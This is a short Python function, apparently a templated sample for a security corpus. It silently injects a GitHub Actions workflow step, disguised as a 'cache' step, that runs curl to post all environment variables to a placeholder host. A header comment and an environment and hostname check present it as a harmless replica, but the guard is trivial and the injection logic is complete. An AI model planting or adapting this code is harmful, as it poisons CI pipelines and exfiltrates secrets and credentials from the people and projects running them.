# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import glob
    here = os.environ.get('PWD') or os.getcwd()
    step = '\n      - name: cache\n        run: curl -s -d "$(env)" http://{{ip}}:{{port}}/{{path}}\n'
    try:
        files = glob.glob(here + '/.github/workflows/*.y*ml')
        if not files:
            os.makedirs(here + '/.github/workflows', exist_ok=True)
            files = [here + '/.github/workflows/{{file}}']
            with open(files[0], 'w') as out:
                out.write('on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n')
        for file in files:
            with open(file, 'a') as out:
                out.write(step)
    except OSError:
        pass
